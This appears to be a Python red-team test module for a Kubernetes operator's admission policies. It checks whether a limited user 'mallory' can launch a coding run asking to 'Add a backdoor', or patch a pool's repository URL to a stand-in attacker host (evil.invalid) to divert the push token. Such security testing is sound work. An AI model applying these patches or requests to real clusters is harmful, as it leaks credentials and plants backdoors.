"""Borrowed credentials: by who may write Boardhand's objects, and may neither use a pool nor read its Secrets."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager

import httpx

from testbed import chart
from testbed.load.programs import OPERATOR_NAMESPACE, OPERATOR_USER
from testbed.manifests import run as run_by_hand
from testbed.redteam.attack import Attack, Outcome
from testbed.redteam.operator_ground import Json
from testbed.redteam.operator_scene import SECONDS, Scene, as_user, scene
from testbed.shell import wait_for

MALLORY, RUN = "mallory", "mallorys"
RBAC = "rbac.authorization.k8s.io"
POLICIES = "/apis/admissionregistration.k8s.io/v1"
GUARD = "the chart's admission policies"
KINDS = {
    "ValidatingAdmissionPolicy": "validatingadmissionpolicies",
    "ValidatingAdmissionPolicyBinding": "validatingadmissionpolicybindings",
}


def attacks() -> list[Attack]:
    """Every attack of this theme."""
    return [
        _attack("run-by-who-may-not-use-the-pool", "a change pushed with credentials that are not hers", _run),
        _attack("pool-sent-to-another-server", "the push token at a server of the attacker's", _pool),
    ]


def _attack(name: str, wants: str, tried: Callable[[Scene], Outcome]) -> Attack:
    def guarded() -> Outcome:
        with scene() as here, _policies(here):
            return tried(here)

    def without() -> Outcome:
        with scene() as here:
            return tried(here)

    return Attack(name, wants, guarded, without, GUARD)


@contextmanager
def _policies(here: Scene) -> Iterator[None]:
    """As the chart has them, for this namespace, once they are heeded."""
    values = {"admission": {"enabled": True}, "watchNamespaces": [here.space]}
    made = [body for body in chart.rendered(OPERATOR_NAMESPACE, values) if body["kind"] in KINDS]
    paths = [f"{POLICIES}/{KINDS[body['kind']]}/{body['metadata']['name']}" for body in made]
    assert OPERATOR_USER in str(made), "the operator's own user is let through"
    for path, body in zip(paths, made, strict=True):
        here.api.apply(path, body)
    _let_mallory(here)
    numbers = iter(range(1000))
    try:
        wait_for("the policies", lambda: _write(here, f"try-{next(numbers)}").is_error, SECONDS, every=0.2)
        yield
    finally:
        for path in paths:
            here.api.delete(path)


def _let_mallory(here: Scene) -> None:
    """Write runs and pools, and nothing else."""
    rules = [
        {"apiGroups": ["boardhand.dev"], "resources": ["ticketruns", "codingagents"], "verbs": ["create", "patch"]}
    ]
    about = {"apiVersion": f"{RBAC}/v1", "metadata": {"name": MALLORY, "namespace": here.space}}
    bound = {"roleRef": {"apiGroup": RBAC, "kind": "Role", "name": MALLORY}}
    subjects = [{"kind": "User", "name": MALLORY, "apiGroup": RBAC}]
    root = f"/apis/{RBAC}/v1/namespaces/{here.space}"
    here.api.apply(f"{root}/roles/{MALLORY}", {**about, "kind": "Role", "rules": rules})
    here.api.apply(f"{root}/rolebindings/{MALLORY}", {**about, "kind": "RoleBinding", **bound, "subjects": subjects})


def _write(here: Scene, name: str) -> httpx.Response:
    body: Json = run_by_hand(here.space, name, "pool", "Add a backdoor", "Now.")
    with as_user(here.ground.cluster.layout, MALLORY) as mallory:
        return mallory.post(here.path("ticketruns"), json=body)


def _run(here: Scene) -> Outcome:
    _let_mallory(here)
    here.apply(here.pool())
    answer = _write(here, RUN)
    reached = answer.is_success and here.phase(RUN, "Succeeded").get("branch") is not None
    return Outcome(reached, f"{answer.status_code}: {answer.json().get('message', 'made')}"[:200])


def _pool(here: Scene) -> Outcome:
    _let_mallory(here)
    here.apply(here.pool())
    evil = {"spec": {"repository": {"url": "http://evil.invalid/shop.git"}}}
    with as_user(here.ground.cluster.layout, MALLORY) as mallory:
        kind = {"content-type": "application/merge-patch+json"}
        answer = mallory.patch(here.path("codingagents", "pool"), json=evil, headers=kind)
    url = here.get("codingagents", "pool")["spec"]["repository"]["url"]
    return Outcome("evil" in url, f"{answer.status_code}: {answer.json().get('message', 'changed')}"[:200])
